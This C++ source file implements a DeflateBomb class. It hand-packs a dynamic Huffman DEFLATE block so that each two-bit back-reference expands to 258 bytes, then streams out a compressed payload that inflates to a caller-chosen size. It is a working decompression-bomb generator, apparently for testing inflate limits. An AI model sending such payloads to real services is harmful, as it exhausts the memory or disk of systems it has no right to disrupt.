#include "protocol/deflate/bomb.h"

#include <algorithm>

namespace fg {

namespace {

class BitWriter
{
public:
    explicit BitWriter(std::span<std::byte> into)
        : m_into(into)
    {
    }

    // Writes the lowest bit first, as RFC 1951 3.1.1 packs numbers.
    void number(unsigned value, unsigned bits)
    {
        for (unsigned bit = 0; bit < bits; ++bit, ++m_bits)
            m_into[m_bits / 8] |= static_cast<std::byte>(((value >> bit) & 1u) << (m_bits % 8));
    }
    // Writes the highest bit first, as it packs prefix codes.
    void code(unsigned value, unsigned bits)
    {
        for (unsigned bit = bits; bit-- > 0;)
            number((value >> bit) & 1u, 1);
    }
    [[nodiscard]] std::size_t bits() const { return m_bits; }

private:
    std::span<std::byte> m_into;
    std::size_t m_bits = 0;
};

// A dynamic block in which a reference of length 258 and distance 1 takes two bits, both 0. Codes: literal 0
// is 10, the end of the block 11, length 258 is 0, distance 1 is 0 (and distance 2, which completes that
// code, is 1).
void writeBlockStart(BitWriter &out)
{
    constexpr unsigned literalCodes = 286;
    constexpr unsigned distanceCodes = 2;
    constexpr unsigned lengthCodes = 18;
    out.number(0, 1); // more blocks follow
    out.number(2, 2);
    out.number(literalCodes - 257, 5);
    out.number(distanceCodes - 1, 5);
    out.number(lengthCodes - 4, 4);
    // Lengths of the code for code lengths, in the order of RFC 1951 3.2.7: 18 is 0, 1 is 10, 2 is 11.
    for (unsigned i = 0; i < lengthCodes; ++i) {
        const bool isRun = i == 2;
        const bool isOneOrTwo = i == 15 || i == 17;
        out.number(isRun ? 1 : isOneOrTwo ? 2 : 0, 3);
    }
    const auto length = [&out](unsigned value) { out.code(value == 1 ? 0b10 : 0b11, 2); };
    const auto zeros = [&out](unsigned count) {
        out.code(0, 1);
        out.number(count - 11, 7);
    };
    length(2); // 0
    zeros(138);
    zeros(117);
    length(2); // 256
    zeros(28);
    length(1); // 285
    length(1); // distance 1
    length(1); // distance 2
}

constexpr std::uint64_t referenceLength = 258;
constexpr unsigned bitsInReference = 2;

} // namespace

DeflateBomb::DeflateBomb(std::uint64_t inflated)
{
    BitWriter head(m_head);
    writeBlockStart(head);
    head.code(0b10, 2); // one 0, which the references repeat
    // The references are 0 bits, including those in the rest of the last octet. If their number is odd, the
    // end completes the last reference.
    m_headSize = (head.bits() + 7) / 8;
    const std::uint64_t wanted =
        (std::max<std::uint64_t>(inflated, 1) - 1 + referenceLength - 1) / referenceLength;
    const std::uint64_t inHead = m_headSize * 8 - head.bits();
    const std::uint64_t wantedBits = wanted * bitsInReference;
    const std::uint64_t middle = wantedBits > inHead ? (wantedBits - inHead + 7) / 8 : 0;
    BitWriter end(m_end);
    if ((inHead % bitsInReference) != 0)
        end.number(0, 1);
    const std::uint64_t references = (inHead + middle * 8 + end.bits()) / bitsInReference;
    end.code(0b11, 2);
    end.number(0, 3); // the header of an empty stored block
    m_size = m_headSize + middle + 1;
    m_inflated = 1 + references * referenceLength;
}

std::size_t DeflateBomb::fill(std::span<std::byte> into)
{
    const std::size_t count =
        static_cast<std::size_t>(std::min<std::uint64_t>(into.size(), m_size - m_position));
    const std::span<std::byte> now = into.first(count);
    std::ranges::fill(now, std::byte{0});
    for (std::size_t at = 0; at < count && m_position + at < m_headSize; ++at)
        now[at] = m_head[static_cast<std::size_t>(m_position) + at];
    if (count > 0 && m_position + count == m_size)
        now.back() = m_end[0];
    m_position += count;
    return count;
}

} // namespace fg
